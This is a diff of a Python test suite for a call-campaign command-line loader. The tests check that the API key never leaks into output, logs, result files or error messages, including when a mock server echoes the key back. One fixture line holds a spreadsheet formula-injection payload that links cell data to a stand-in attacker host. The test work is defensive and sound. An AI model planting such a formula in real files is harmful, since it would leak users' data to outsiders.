@@ -3,15 +3,23 @@ them; the key is never sent in clear text across a network."""
 
 from __future__ import annotations
 
+import base64
 import contextlib
+import copy
 import csv
 import json
 import os
+import pickle
 import signal
+import socket
 import subprocess
+import threading
 import time
+import urllib.parse
+import zipfile
 from collections.abc import Iterator
 from pathlib import Path
+from typing import Any
 
 import httpx
 import pytest
@@ -20,6 +28,7 @@ from sandbox_process import CLI, running_sandbox
 from loader.cli import main
 from loader.pipeline import load_campaign
 from loader.sandbox import Sandbox, SandboxTransport
+from loader.secrets import MIN_RUN, ApiKey, mask
 
 FORMULAS = {
     "hyperlink": '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
@@ -124,21 +133,42 @@ def campaign_for(url: str, agent: str, key: str) -> str:
     return str(httpx.get(f"{url}/_sandbox/campaigns").json()[-1]["batch_id"])
 
 
-def load(folder: Path, url: str, *options: str, name: str, wait: float | None = None) -> tuple[str, str]:
-    """Run the installed command with every output switched on; return stdout and stderr."""
+def load(
+    folder: Path,
+    url: str,
+    *options: str,
+    name: str,
+    stop_when: str | None = None,
+    key: str = MARKER,
+    agent: str = "demo-agent",
+    results: str = "csv",
+) -> tuple[str, str]:
+    """Run the installed command with every output switched on; return stdout and stderr.
+
+    ``stop_when``: the sandbox's URL; SIGTERM is sent once the campaign and the first call have
+    reached it, so the run is surely sending."""
     env = {k: v for k, v in os.environ.items() if not k.startswith("CALLKARO_")}
-    env["CALLKARO_API_KEY"] = MARKER
+    env["CALLKARO_API_KEY"] = key
     argv = [
-        CLI, "run", "leads.csv", "--agent-id", "demo-agent", "--default-region", "IN", "--base-url", url,
-        "--output", f"{name}.results.csv", "--log-file", f"{name}.log.jsonl",
+        CLI, "run", "leads.csv", "--agent-id", agent, "--default-region", "IN", "--base-url", url,
+        "--output", f"{name}.results.{results}", "--log-file", f"{name}.log.jsonl",
         "--summary-json", f"{name}.summary.json", "--no-progress", *options,
     ]  # fmt: skip
     with subprocess.Popen(argv, cwd=folder, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE) as run:
-        if wait is not None:
-            time.sleep(wait)
+        if stop_when is not None:
+            wait_for_requests(stop_when, 2, run)
             run.send_signal(signal.SIGTERM)
         out, err = run.communicate(timeout=120)
     return out.decode(), err.decode()
+
+
+def wait_for_requests(url: str, count: int, run: subprocess.Popen[bytes]) -> None:
+    """Until the sandbox at ``url`` has received ``count`` API requests (the run is sending)."""
+    deadline = time.monotonic() + 60
+    while httpx.get(f"{url}/_sandbox/stats", timeout=10).json().get("requests", 0) < count:
+        assert run.poll() is None, "the run ended before it sent anything"
+        assert time.monotonic() < deadline, f"no request reached the sandbox in 60 s: {run.args}"
+        time.sleep(0.02)
 
 
 def test_the_api_key_appears_in_no_output_log_results_state_summary_or_report(tmp_path: Path) -> None:
@@ -159,7 +189,9 @@ def test_the_api_key_appears_in_no_output_log_results_state_summary_or_report(tm
         batch = campaign_for(url, "demo-agent", MARKER)
         printed += load(folder, url, "--batch-id", batch, name="no-answer")
     with sandbox("--api-key", MARKER, "--latency-ms", "1500") as url:
-        printed += load(folder, url, name="interrupted", wait=1.0)
+        # One call at a time, stopped once the first has reached the sandbox: that one is answered
+        # in the grace period, the second is never sent.
+        printed += load(folder, url, "--concurrency", "1", name="interrupted", stop_when=url)
     for report in ("report.csv", "report.xlsx"):
         done = subprocess.run(
             [CLI, "validate", "leads.csv", "--default-region", "IN", "--report", report],
@@ -184,7 +216,7 @@ def test_the_api_key_appears_in_no_output_log_results_state_summary_or_report(tm
     assert statuses["ok"].get("scheduled") == 2
     assert statuses["refused-400"].get("failed") == 2
     assert statuses["no-answer"].get("uncertain") == 2
-    assert statuses["interrupted"].get("scheduled", 0) < 2
+    assert statuses["interrupted"] == {"scheduled": 1, "invalid": 1, "pending": 1}
 
     leaks = [p.name for p in folder.iterdir() if p.is_file() and MARKER.encode() in p.read_bytes()]
     assert leaks == []
@@ -237,3 +269,209 @@ def test_a_403_that_echoes_the_key_back_leaks_it_nowhere(
     out, err = capsys.readouterr()
     assert MARKER not in out + err
     assert [p.name for p in tmp_path.iterdir() if MARKER.encode() in p.read_bytes()] == []
+
+
+# --- a server that echoes the key back in every form a person would recognise --------------------
+
+#: A key with characters that URL-encoding and base64 change, so that each form differs.
+HOSTILE_KEY = "ck_live+7f3a9c2e/MARKER=d41d8cd98f00b204"
+KEY_FORMS = {
+    "as sent": HOSTILE_KEY,
+    "lower-cased": HOSTILE_KEY.lower(),
+    "upper-cased": HOSTILE_KEY.upper(),
+    "base64": base64.b64encode(HOSTILE_KEY.encode()).decode(),
+    "url-safe base64": base64.urlsafe_b64encode(HOSTILE_KEY.encode()).decode().rstrip("="),
+    "url-encoded": urllib.parse.quote(HOSTILE_KEY, safe=""),
+    "first 12 characters": HOSTILE_KEY[:12],
+    "last 8 characters": HOSTILE_KEY[-8:],
+    "letter-spaced": " ".join(HOSTILE_KEY),
+    "dot-spaced upper-cased": ".".join(HOSTILE_KEY.upper()),
+}
+FORM_LEADS = "phone,Name,form\n" + "".join(
+    f"+91 98765 432{index:02d},Lead {index},{form}\n" for index, form in enumerate(KEY_FORMS)
+)
+
+
+def hostile_api() -> tuple[Any, list[dict[str, Any]]]:
+    """A CallKaro API that answers with the key it was sent, chosen by ``agent_id``:
+
+    ``echo-in-campaign``: the campaign is refused (400) with every form of the key in the message;
+    ``echo-in-calls``: each call is refused (400) with the form its row's ``form`` cell names;
+    ``key-as-batch-id`` / ``key-in-call-id``: success, with the key as (or inside) the id."""
+    from starlette.applications import Starlette
+    from starlette.requests import Request
+    from starlette.responses import JSONResponse
+    from starlette.routing import Route
+
+    calls: list[dict[str, Any]] = []
+    agents: dict[str, str] = {}
+
+    async def campaign(request: Request) -> JSONResponse:
+        key, agent = request.headers["x-api-key"], (await request.json())["agent_id"]
+        if agent == "echo-in-campaign":
+            told = "; ".join(f"{name}: {form}" for name, form in forms_of(key).items())
+            return JSONResponse({"status": "error", "message": f"key not allowed ({told})"}, 400)
+        batch = key if agent == "key-as-batch-id" else f"batch-{len(agents)}"
+        agents[batch] = agent
+        return JSONResponse({"status": "success", "batch_id": batch})
+
+    async def outbound(request: Request) -> JSONResponse:
+        body = await request.json()
+        calls.append(body)
+        key, agent = request.headers["x-api-key"], agents[body["batch_id"]]
+        if agent == "key-in-call-id":
+            return JSONResponse({"status": "success", "call_id": f"call-{key}-1"})
+        form = forms_of(key)[body["metadata"]["form"]]
+        return JSONResponse({"status": "error", "message": f"the key {form} may not call this number"}, 400)
+
+    routes = [
+        Route("/call/campaign", campaign, methods=["POST"]),
+        Route("/call/outbound", outbound, methods=["POST"]),
+    ]
+    return Starlette(routes=routes), calls
+
+
+def forms_of(key: str) -> dict[str, str]:
+    assert key == HOSTILE_KEY
+    return KEY_FORMS
+
+
+@contextlib.contextmanager
+def serving(app: Any) -> Iterator[str]:
+    """``app`` served by uvicorn on a loopback port, in a thread; its base URL."""
+    import uvicorn
+
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    server = uvicorn.Server(uvicorn.Config(app, log_level="critical", lifespan="off"))
+    thread = threading.Thread(target=server.run, kwargs={"sockets": [listener]}, daemon=True)
+    thread.start()
+    try:
+        deadline = time.monotonic() + 30
+        while not server.started:  # set by uvicorn once it is accepting connections
+            assert thread.is_alive() and time.monotonic() < deadline, "the hostile API did not start"
+            time.sleep(0.01)
+        yield f"http://127.0.0.1:{listener.getsockname()[1]}"
+    finally:
+        server.should_exit = True
+        thread.join(timeout=30)
+        listener.close()
+
+
+def texts_of(folder: Path) -> dict[str, bytes]:
+    """Every file's bytes; an .xlsx as the XML inside it (its zip would hide the text)."""
+    found: dict[str, bytes] = {}
+    for path in folder.iterdir():
+        if path.suffix == ".xlsx":
+            with zipfile.ZipFile(path) as archive:
+                found[path.name] = b"".join(archive.read(name) for name in archive.namelist())
+        elif path.is_file():
+            found[path.name] = path.read_bytes()
+    return found
+
+
+def leaked(folder: Path, printed: list[str], forms: dict[str, str]) -> list[str]:
+    """Each (form, output) in which that form of the key was found."""
+    outputs = {**texts_of(folder), **{f"printed #{i}": text.encode() for i, text in enumerate(printed)}}
+    return [
+        f"{name} in {where}"
+        for name, form in forms.items()
+        for where, data in outputs.items()
+        if form.encode() in data or form.lower().encode() in data.lower()
+    ]
+
+
+def test_a_server_echoing_the_key_in_any_recognisable_form_leaks_it_into_no_output(tmp_path: Path) -> None:
+    (tmp_path / "leads.csv").write_text(FORM_LEADS, encoding="utf-8")
+    app, calls = hostile_api()
+    with serving(app) as url:
+        refused = load(tmp_path, url, name="campaign", key=HOSTILE_KEY, agent="echo-in-campaign")
+        rejected = load(tmp_path, url, name="calls", key=HOSTILE_KEY, agent="echo-in-calls", results="xlsx")
+    summaries = {
+        name: json.loads((tmp_path / f"{name}.summary.json").read_text()) for name in ("campaign", "calls")
+    }
+    # The echoes really came back and were recorded, so the search below means something.
+    assert summaries["campaign"]["exit_code"] == 3 and "key not allowed (as sent: ********" in refused[1]
+    assert summaries["calls"]["counts"] == {"failed": len(KEY_FORMS)}
+    assert len(calls) == len(KEY_FORMS)
+    log = (tmp_path / "calls.log.jsonl").read_text(encoding="utf-8")
+    assert log.count("HTTP 400: the key ******** may not call this number") == len(KEY_FORMS)
+
+    assert leaked(tmp_path, [*refused, *rejected], KEY_FORMS) == []
+
+
+@pytest.mark.parametrize(("agent", "field"), [("key-as-batch-id", "batch_id"), ("key-in-call-id", "call_id")])
+def test_the_key_handed_back_as_an_id_is_refused_and_never_stored(
+    tmp_path: Path, agent: str, field: str
+) -> None:
+    (tmp_path / "leads.csv").write_text(FORM_LEADS, encoding="utf-8")
+    app, calls = hostile_api()
+    with serving(app) as url:
+        # One call at a time, so that exactly one is in flight when the first answer is read.
+        out, err = load(tmp_path, url, "--concurrency", "1", name="run", key=HOSTILE_KEY, agent=agent)
+    summary = json.loads((tmp_path / "run.summary.json").read_text())
+    assert summary["exit_code"] == 3
+    assert err.splitlines() == [
+        f"callkaro-loader: error: the API sent the API key back as the {field}; the id was not stored "
+        "and nothing more is sent",
+        "hint: Report this to CallKaro, and replace the key if others may have seen their answers.",
+    ]
+    if field == "batch_id":
+        assert calls == [] and summary["counts"] == {"pending": len(KEY_FORMS)}
+    else:
+        # The API said the first call is scheduled: it is never sent again, and no other is sent.
+        assert len(calls) == 1 and summary["counts"] == {"uncertain": 1, "pending": len(KEY_FORMS) - 1}
+    assert leaked(tmp_path, [out, err], KEY_FORMS) == []
+
+
+@pytest.mark.parametrize(
+    ("argv", "named"),
+    [
+        (["run", "leads.csv", "--api", MARKER], "unrecognized arguments: --api ********"),
+        (["run", "leads.csv", "--token=" + MARKER], "unrecognized arguments: --token=********"),
+        (["validate", "leads.csv", "--a=" + MARKER], "ambiguous option: --a=******** could match"),
+        # argparse takes the key for the command here: hidden all the same.
+        (["--auth", MARKER, "run", "leads.csv"], "invalid choice: '********'"),
+    ],
+)
+def test_a_key_given_to_an_unknown_flag_is_not_echoed_in_the_usage_error(
+    argv: list[str], named: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    with pytest.raises(SystemExit) as exited:
+        main(argv)
+    err = capsys.readouterr().err
+    assert exited.value.code == 2
+    assert named in err.splitlines()[0] and len(err.splitlines()) == 2
+    assert MARKER[:8] not in err
+
+
+def test_the_key_object_never_shows_the_key_and_cannot_be_pickled() -> None:
+    key = ApiKey(MARKER)
+    for shown in (repr(key), str(key), f"{key}", f"{key!r}", repr([key]), repr({"key": key})):
+        assert shown.count("ApiKey('********')") == 1 and MARKER[:8] not in shown, shown
+    for copy_out in (pickle.dumps, lambda k: pickle.dumps(k, protocol=0), copy.copy, copy.deepcopy):
+        with pytest.raises(TypeError, match="an ApiKey cannot be pickled"):
+            copy_out(key)
+    assert key.reveal() == MARKER
+
+
+@pytest.mark.parametrize(("form", "echoed"), KEY_FORMS.items())
+def test_mask_hides_each_form_of_the_key_inside_a_message(form: str, echoed: str) -> None:
+    key = ApiKey(HOSTILE_KEY)
+    assert mask(f"HTTP 400: key {echoed} is not allowed", key) == "HTTP 400: key ******** is not allowed"
+    assert key.found_in(f"call-{echoed}-1")
+
+
+@pytest.mark.parametrize(
+    "message",
+    [
+        "Invalid API key",
+        "Missing X-API-KEY in headers",
+        "agent_id demo-agent does not match campaign 0a1b2c3d4e5f60718293a4b5, which belongs to agent x",
+        "to_number must be in E.164 format",
+        " ".join(HOSTILE_KEY[: MIN_RUN - 1]),  # spaced, one character too short
+        HOSTILE_KEY[: MIN_RUN - 1] + " " + HOSTILE_KEY[MIN_RUN - 1 : 2 * MIN_RUN - 2],  # two runs too short
+    ],
+)
+def test_mask_leaves_ordinary_messages_and_short_fragments_alone(message: str) -> None:
+    assert mask(message, ApiKey(HOSTILE_KEY)) == message
